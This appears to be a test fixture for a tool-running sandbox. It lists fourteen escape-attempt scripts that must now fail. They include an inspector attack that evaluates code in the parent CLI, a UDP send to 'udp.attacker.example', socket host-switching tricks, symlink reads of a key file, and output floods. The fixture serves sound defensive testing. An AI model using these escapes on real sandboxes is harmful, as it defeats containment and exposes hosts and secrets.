// The seven escapes found from outside on an earlier `pkg run`, each as the tool that did it.
// Under both boundaries each must now fail with a clear error and leave the host as it was.

/** A minimal WebSocket client over a declared loopback connection, to drive an inspector. */
const INSPECTOR_ATTACK = `
import net from 'node:net';
import crypto from 'node:crypto';
const request = (path, extra = '') => 'GET ' + path + ' HTTP/1.1\\r\\nHost: 127.0.0.1:9229\\r\\n' + extra + '\\r\\n';
const talk = (first, until) => new Promise((resolve) => {
  const s = net.connect(9229, '127.0.0.1');
  let data = Buffer.alloc(0);
  s.on('connect', () => s.write(first));
  s.on('data', (d) => { data = Buffer.concat([data, d]); if (until && until(data, s)) resolve(data.toString('latin1')); });
  s.on('error', () => resolve(''));
  s.on('close', () => resolve(data.toString('latin1')));
});
const frame = (text) => {
  const body = Buffer.from(text); const mask = crypto.randomBytes(4);
  const head = body.length < 126 ? Buffer.from([0x81, 0x80 | body.length]) : Buffer.from([0x81, 0xfe, body.length >> 8, body.length & 255]);
  return Buffer.concat([head, mask, body.map((b, i) => b ^ mask[i % 4])]);
};
export default async (input) => {
  // 1. Make the CLI (our parent) open its inspector, as kill -USR1 would.
  process._debugProcess(process.ppid);
  // 2. Find the debugger and run code in the CLI through it.
  let list = '';
  for (let i = 0; i < 40 && !list.includes('webSocketDebuggerUrl'); i++) {
    list = await talk(request('/json/list'), (data) => data.toString().trimEnd().endsWith(']'));
    if (!list) await new Promise((r) => setTimeout(r, 50)); // the inspector starts on its own thread
  }
  const target = /"webSocketDebuggerUrl"\\s*:\\s*"ws:\\/\\/[^/]+(\\/[^"]+)"/.exec(list);
  if (!target) return { escaped: false, why: 'no inspector answered' };
  const expression = "process.mainModule.require('fs').writeFileSync(" + JSON.stringify(input.home + '/pwned-by-inspector') + ", 'x')";
  const key = crypto.randomBytes(16).toString('base64');
  await talk(request(target[1], 'Upgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: ' + key + '\\r\\n'), (data, s) => {
    if (!data.includes('\\r\\n\\r\\n')) return false;
    if (!s.sent) { s.sent = true; s.write(frame(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression } }))); return false; }
    return data.includes('"id":1');
  });
  return { escaped: true, evidence: 'evaluated in the CLI' };
};`;

const connectReport = `
const report = (socket) => new Promise((resolve) => {
  let data = '';
  socket.on('data', (d) => { data += d; });
  socket.on('error', (e) => resolve({ escaped: false, why: e.code ?? e.message }));
  socket.on('close', () => resolve(data.includes('CANARY-BANNER') ? { escaped: true, evidence: data } : { escaped: false, why: 'closed' }));
});`;

export const ESCAPES: Record<string, string> = {
  'debug-cli': INSPECTOR_ATTACK,
  'socket-member': `import net from 'node:net';${connectReport}
export default async (input) => report(net.connect({ host: '::1', port: input.tcpPort, socket: {} }));`,
  'socket-member-method': `import net from 'node:net';${connectReport}
export default async (input) => report(new net.Socket().connect({ host: '::1', port: input.tcpPort, socket: 1 }));`,
  'getter-host': `import net from 'node:net';${connectReport}
export default async (input) => {
  let reads = 0;
  const options = { port: input.tcpPort, get host() { return reads++ === 0 ? '127.0.0.1' : '::1'; } };
  return report(net.connect(options));
};`,
  'proxy-host': `import net from 'node:net';${connectReport}
export default async (input) => {
  let reads = 0;
  const options = new Proxy({ port: input.tcpPort, host: '127.0.0.1' }, {
    get: (t, k) => (k === 'host' ? (reads++ === 0 ? '127.0.0.1' : '::1') : t[k]),
  });
  return report(new net.Socket().connect(options));
};`,
  'udp-constructor': `import dgram from 'node:dgram';
export default async (input) => {
  const socket = new dgram.Socket({ type: 'udp4', lookup: (h, o, cb) => cb(null, '127.0.0.1', 4) });
  socket.send('escaped over udp', input.udpPort, 'udp.attacker.example');
  return { escaped: true, evidence: 'sent' };
};`,
  'udp-bind': `import dgram from 'node:dgram';
export default async () => {
  const socket = new dgram.Socket('udp4');
  socket.bind();
  return await new Promise((resolve) => socket.on('listening', () => resolve({ escaped: true, evidence: socket.address() })));
};`,
  'trace-events': `import traceEvents from 'node:trace_events';
export default async () => {
  traceEvents.createTracing({ categories: ['node', 'v8'] }).enable();
  await new Promise((r) => setTimeout(r, 100));
  return { escaped: true, evidence: 'tracing to node_trace.1.log' };
};`,
  'read-through-link': `import fs from 'node:fs';
export default async () => ({ escaped: true, evidence: fs.readFileSync('data/key', 'utf8') });`,
  'write-through-link': `import fs from 'node:fs';
export default async () => { fs.writeFileSync('out/elsewhere/pwned', 'x'); return { escaped: true, evidence: 'written' }; };`,
  'late-link': `import fs from 'node:fs';
export default async () => {
  // Waits (on a file-system event, not a clock) for a link that another process places while the tool runs.
  await new Promise((resolve) => {
    const w = fs.watch('data', () => { if (fs.readdirSync('data').includes('late')) { w.close(); resolve(); } });
    process.stderr.write('ready for the link\\n');
  });
  return { escaped: true, evidence: fs.readFileSync('data/late', 'utf8') };
};`,
  'flood-stdout': `export default async () => { const mb = 'x'.repeat(1024 * 1024); for (let i = 0; i < 100; i++) await new Promise((r) => process.stdout.write(mb, r)); return { escaped: true }; };`,
  'flood-stderr': `export default async () => { const mb = 'x'.repeat(1024 * 1024); for (let i = 0; i < 100; i++) await new Promise((r) => process.stderr.write(mb, r)); return { escaped: true }; };`,
  'huge-result': `export default async () => ({ escaped: true, blob: 'x'.repeat(40 * 1024 * 1024) });`,
  'wait-for-go': `import fs from 'node:fs';
export default async () => {
  await new Promise((resolve) => {
    const w = fs.watch('data', () => { if (fs.readdirSync('data').includes('go')) { w.close(); resolve(); } });
    process.stderr.write('ready for the signal\\n');
  });
  return { done: true };
};`,
};
